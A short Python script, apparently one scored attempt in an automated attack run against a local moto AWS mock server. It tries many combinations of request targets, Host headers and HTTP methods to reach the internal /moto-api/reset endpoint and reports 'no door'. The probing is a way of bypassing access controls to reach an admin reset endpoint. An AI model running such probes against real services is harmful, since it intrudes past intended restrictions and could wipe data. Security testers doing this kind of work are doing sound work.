# attack: 22
# does: works, then asks for moto's own pages by absolute addresses, other hosts and other methods, signed and unsigned
# run: finished
# earns: 10
# prints: no door
# with: work
# with: http
work()
found = []
for target in ("http://motoapi.amazonaws.com/moto-api/reset", "http://127.0.0.1:4566/moto-api/reset", "/moto-api/reset", "*", "moto-api/reset"):
    for host in ("motoapi.amazonaws.com", "127.0.0.1:4566", "moto-api.s3.amazonaws.com", ""):
        for method in ("POST", "PUT", "PATCH", "RESET", "OPTIONS", "HEAD"):
            with line() as one:
                one.sendall(f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode())
                answer = b""
                while part := one.recv(65536):
                    answer += part
            if answer.split()[1:2] == [b"200"] and method not in ("OPTIONS", "HEAD"):
                found.append((method, target, host, answer[:200]))
for service in ("moto-api", "motoapi", "moto_api", "instance_metadata"):
    found += [service] if raw("POST", "/moto-api/reset", service=service)[0] == 200 else []
print(found or "no door")
